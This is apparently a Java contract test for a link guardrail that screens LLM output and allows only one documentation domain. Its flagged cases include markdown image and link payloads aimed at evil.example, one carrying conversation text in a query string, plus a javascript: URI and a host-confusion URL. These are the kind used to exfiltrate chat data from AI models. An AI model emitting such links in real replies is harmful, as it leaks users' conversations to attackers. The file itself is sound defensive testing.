package io.llmops.contracts;

import io.llmops.guardrails.Guardrail;
import io.llmops.guardrails.link.LinkGuardrail;
import io.llmops.testkit.contract.GuardrailContract;
import java.util.List;

class LinkGuardrailContractTest extends GuardrailContract {

    @Override
    protected Guardrail guardrail() {
        return LinkGuardrail.allowing("docs.example.com");
    }

    @Override
    protected List<String> textsWithFindings() {
        return List.of(
                "Look: ![a [b] c](https://evil.example/p.png?q=what+you+said) and so on",
                "![x](//evil.example/p) [y](javascript:run) https://docs.example.com@evil.example",
                "<img src=\"https://evil.example/" + "p".repeat(3000) + "\">",
                "[" + "n".repeat(700) + "](https://evil.example/?" + "q".repeat(50)
                        + ") ![x][r]\n[r]: http:evil.example");
    }

    @Override
    protected List<String> textsWithout() {
        return List.of(
                "",
                "![x](https://docs.example.com/p) at 12:30, see https://other.example/page",
                "a://b",
                ":".repeat(99));
    }
}
